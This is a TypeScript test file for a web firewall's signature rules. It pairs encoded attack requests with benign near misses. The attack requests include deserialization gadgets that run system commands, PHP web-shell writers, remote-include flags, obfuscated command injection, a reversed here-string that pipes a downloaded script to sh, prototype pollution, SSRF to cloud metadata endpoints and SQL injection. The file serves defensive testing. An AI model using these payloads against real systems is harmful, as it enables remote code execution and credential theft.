/**
 * Bundled rules 9001601–9001661 and 9000118 (issue 14): what an attack family is caught by exactly — the magic of a
 * serialized object in every target and decoding, a PHP tag's first call, a php.ini directive that lifts
 * a restriction, a JS tagged-template call or an empty infinite loop, a quoted or caret-broken cmd word
 * after a separator, a command word spliced with an empty expansion, a Cookie string naming a session id
 * inside a value, a metadata address in a rare notation, an EL read of a request header, a SQL server
 * variable, a percent-encoded @type, a __proto__ key in an encoded JSON value, a header after a line
 * break, a reversed here-string piped to sh. Each blocks its attack wherever the value sits and stays quiet on the benign text
 * closest to it (a Rails session cookie, gzip'd JSON state, a theme template, a PHP settings form, a
 * Markdown code span, a search with quotes and a pipe, a regex anchor, ANSI colours in a script).
 */
import { beforeAll, describe } from 'vitest';
import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
import type { RequestSpec } from './fixtures.js';
import { bundledGate, form, header, inspectedHitsOf, json, q, testRuleCases } from './bundled-requests.js';

let gate: CompiledSignatureGate;
beforeAll(async () => {
  gate = await bundledGate();
});
// Through the real inspector: several of these rules read decoded forms (base64, gzip inside base64).
const hits = (spec: RequestSpec): Array<[number, string]> => inspectedHitsOf(gate, spec);
const cookie = (value: string): RequestSpec => header('Cookie', value);

// Marshal.dump of a Net::WriteAdapter whose socket is Kernel and method `system` (a gadget's root object)
const RUBY_OBJECT = 'BAhvOhZOZXQ6OldyaXRlQWRhcHRlcgc6DEBzb2NrZXRvOgtLZXJuZWwAOg9AbWV0aG9kX2lkOgtzeXN0ZW0=';
// a Rails cookie-store session: a hash root ({"session_id" => "4f0c…"})
const RAILS_SESSION = 'BAh7BkkiD3Nlc3Npb25faWQGOgZFVEkiJTRmMGM5YTNlNWI3ZDFlMmY4YTZjNGIwZDllMWYzYTVjBjsAVA%3D%3D--6a1f0c2b9d';
// gzip'd, base64'd, percent-encoded: a Java object stream (java.util.HashSet) and ordinary JSON list state
const JAVA_GZIP = 'H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTgjOLVkl0vr1Gk7tpswMzBUFAAAZavyOiYAAAA%3D';
const JSON_GZIP = 'H4sIAAAAAAACA6tWSsvMKUktKlayqlZKKkrMS1GyilZKTM5NVYrVUSooykxOBQoYGuiYGsTWAgUS04F841oAoPxOBTcAAAA%3D';
// gzip'd pickle (protocol 5) calling os.system('id'); a protocol-2 pickle calling posix.system('id')
const PICKLE5_GZIP = 'H4sIAAAAAAACA2tgnarBAAE9TPnFU3rYiiuLS1Jzp0ye0sOUmTKldUrQFD0A36IVfiUAAAA=';
const PICKLE2 = 'gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==';

// [sid, attack name, attack, benign near miss]; every one of these rules blocks alone
const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
  [9001601, 'a Ruby Marshal root object in a JSON value', json(`{"state":"${RUBY_OBJECT}"}`), cookie(`_shop_session=${RAILS_SESSION}`)],
  [9001601, 'a Ruby Marshal root object as hex in a query', q('data=04086f3a164e65743a3a577269746541646170746572073a'), q('color=04086f&hash=3a1547656d')],
  [9001602, "a gzip'd Java object stream in a query value", q(`state=${JAVA_GZIP}`), q(`state=${JSON_GZIP}`)],
  [9001602, "a gzip'd pickle in a path segment", { url: `/restore/${encodeURIComponent(PICKLE5_GZIP)}` }, { url: `/restore/${JSON_GZIP}` }],
  [9001604, 'a text-protocol pickle in a form value, line breaks percent-encoded', form("data=cposix%0Asystem%0A(S'id'%0AtR."), form('notes=Marcos%0Asystem%0Aadmin%0Apopen%0A')],
  [9001604, 'a protocol-2 pickle in a JSON value', json(`{"blob":"${PICKLE2}"}`), json('{"blob":"gAJ2kq9vXh3LmQ1wTt8sPzA=="}')],
  [9001605, 'a protocol-2 pickle in a cookie', cookie(`lang=en; remember=${PICKLE2}`), cookie('lang=en; remember=gAJ2kq9vXh3LmQ1wTt8sPzA')],
  [9001606, 'a gadget class as a JVM descriptor in a form value', form('type=Lorg%2Fapache%2Fcommons%2Fbeanutils%2FBeanComparator%3B&x=1'), json('{"method":"valueOf","signature":"(Ljava/lang/String;)Ljava/lang/Integer;"}')],
  [9001610, 'a PHP tag writing a file from a JSON value', json('{"bio":"<?php file_put_contents(\'s.php\', base64_decode($_POST[\'x\'])); ?>"}'), form('file=header.php&newcontent=%3C%3Fphp+get_header()%3B+%3F%3E%0A%3Cmain%3E%3C%3Fphp+the_content()%3B+%3F%3E%3C%2Fmain%3E')],
  [9001610, 'a PHP tag calling phpinfo in a query', q('lang=%3C%3Fphp%20phpinfo()%3B%20%3F%3E'), json('{"code":"<?php echo htmlspecialchars($user[\'name\'], ENT_QUOTES, \'UTF-8\'); ?>"}')],
  [9001611, 'PHP-CGI -d flags enabling remote includes', q('-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'), form('allow_url_fopen=On&memory_limit=256M&display_errors=Off')],
  [9001611, 'directives emptying disable_functions in a JSON value', json('{"settings":"open_basedir=none;disable_functions="}'), q('q=what+does+disable_functions+do%3F')],
  [9001612, 'a remote include without a tag in a form value', form('page=include(%27http%3A%2F%2F203.0.113.9%2Fs.txt%27)%3B'), json('{"code":"include(\'header.php\');"}')],
  [9001620, 'a setTimeout tagged template running code', q('cb=setTimeout%60process.exit(1)%60'), json('{"body":"Use `setTimeout` or `setInterval`; never `eval` with a string."}')],
  [9001620, 'a Function tagged template in JSON', json('{"name":"Function`x=1;while(x);`"}'), json('{"body":"Function`s are objects in JS"}')],
  [9001621, 'an empty infinite loop after a quote breakout', json('{"filter":"\');for(;;){}//"}'), json('{"body":"My loop `while (true) { poll(); }` never exits"}')],
  [9001621, 'an empty infinite loop as a whole value', form('sort=while(1)%7B%7D'), q('q=while(true)+loop+in+java')],
  [9001630, 'a quoted cmd word after a pipe', q('host=127.0.0.1%7C%22whoami%22'), q('q=nginx+%7C+%22type%22+field')],
  [9001630, 'a quoted, caret-broken cmd word after ^& in JSON', json('{"file":"a.txt^&\\"host^name\\""}'), json('{"query":"\\"type\\":\\"net\\""}')],
  [9001631, 'a caret inside a cmd word after a pipe', json('{"host":"8.8.8.8|n^slookup x.test"}'), q('q=x%7Cn%5E2')],
  [9001631, 'a caret inside type after &', q('file=a.txt%26t%5Eype%20c%3A%5Cboot.ini'), q('filter=%5E(net%7Cdir)%2F')],
  [9001640, 'ANSI-C quoting spelling a command', q('q=%24%27%5Cx69d%27'), json('{"script":"IFS=$\'\\\\n\'; printf $\'\\\\x1b[32mok\\\\x1b[0m\'"}')],
  [9001641, 'a command word spliced with $@ in backticks', form('host=1%60who%24%40ami%60'), json('{"body":"`$@` and `$*` differ when quoted: `$(printf \'%s\' \\"$x\\")`"}')],
  [9001641, "a command word spliced with '' in a substitution", json('{"name":"$(ca\'\'t /etc/hostname)"}'), json('{"body":"run `make` then `make install`"}')],
  [9001650, 'a Cookie string with a session id in a query value', q('ret=lang%3Den%3B%20PHPSESSID%3Dattacker01'), { url: '/app;jsessionid=4F1C9A0B7D2E3F4A5B6C7D8E9F0A1B2C?x=1' }],
  [9001650, 'a Cookie string with a generic sid in a path segment', { url: '/go/lang=en;%20sid=fixed123' }, q('q=a%3Db%3B%20c%3Dd')],
  [9001651, 'a Cookie string with a session id in a JSON value', json('{"ref":"theme=dark; session_id=s1x2"}'), json('{"cookie_policy":"theme=dark; lang=en"}')],
  [9001660, 'the Oracle Cloud metadata address as an integer', q('url=http%3A%2F%2F3221225664%2Fopc%2Fv2%2Finstance%2F'), q('url=https%3A%2F%2Fexample.com%2Forders%2F3221225664')],
  [9001660, 'the ECS task endpoint in hex wildcard DNS', json('{"webhook":"http://a9feaa02.nip.io/v2/credentials"}'), json('{"webhook":"https://a9feaa02.example.dev/hooks"}')],
  [9001660, 'a protocol-relative URL to a container service port', form('src=%2F%2Fvault%3A8200%2Fv1%2Fsecret'), json('{"cdn":"//static.example.com:8443/app.js"}')],
  [9001661, 'an EL read of a request header by a quoted key', q('name=%24%7Bheader%5B%22User-Agent%22%5D%7D'), json('{"route":"from(\\"direct:a\\").log(\\"${header.foo} ${body}\\")"}')],
  [9001607, 'a %40type naming a JDK class in a URL-encoded JSON query value', q('cb=%7B%22%40type%22%3A%22java.lang.AutoCloseable%22%2C%22%40type2%22%3A%22java.io.FileOutputStream%22%7D'), form('ld=%7B%22%40context%22%3A%22https%3A%2F%2Fschema.org%22%2C%22%40type%22%3A%22Product%22%7D')],
  [9001622, 'a URL-encoded JSON form value with a __proto__ object', form('profile=%7B%22a%22%3A%7B%22__proto__%22%3A%7B%22isAdmin%22%3Atrue%7D%7D%7D'), form('comment=Never+merge+%7B%22__proto__%22%3A+%7B%7D%7D+from+user+input%2C+see+CVE-2019-10744')],
  [9001622, 'a value starting with #__proto__.', q('next=%23__proto__.polluted%3D1'), q('next=%2Fdocs%23__proto__-explained')],
  [9001652, 'a line break then X-Forwarded-For after a short form value', form('q=289%0AX-Forwarded-For%3A127.0.0.1%0A'), form('message=Our+proxy+sets%0AX-Forwarded-For%3A+the+client+address%2C+is+that+right%3F')],
  [9001642, 'a reversed here-string piped to sh, percent-encoded', form("x=%24(rev%3C%3C%3C'hs.a%2Ftset.x%2F%2F%3Aptth+lruc'%7Csh)"), json('{"body":"`rev <<< \\"olleh\\"` prints hello"}')],
  [9001644, 'a brace expansion naming a command inside backticks', json('{"file":"a.png`{ca\\\\t,/etc/hostname}`"}'), json('{"body":"destructure it: `{id,name}` or `{data,error}`"}')],
  [9001644, 'a brace expansion after eval in a form value', form("x=1%0Aeval+'%7Bps%2Caux%7D'"), form('q=eval+%7Bx%2Cy%7D+in+python')],
  [9000118, 'a SQL server variable as a whole JSON value', json('{"filter":"@@version"}'), json('{"diff":"@@ -1,3 +1,4 @@ version bump"}')],
  [9000118, 'a SQL server variable inside concat()', q('id=1%20and%20extractvalue(1%2Cconcat(0x7e%2C%40%40datadir))'), q('q=email+me%40%40example+version')],
];

describe('bundled rules for the issue-14 family mechanisms (9001601–9001661, 9000118)', () => {
  testRuleCases(CASES.map(([sid, name, attack, nearMiss]) => [sid, 'block', name, attack, nearMiss]), hits);
});
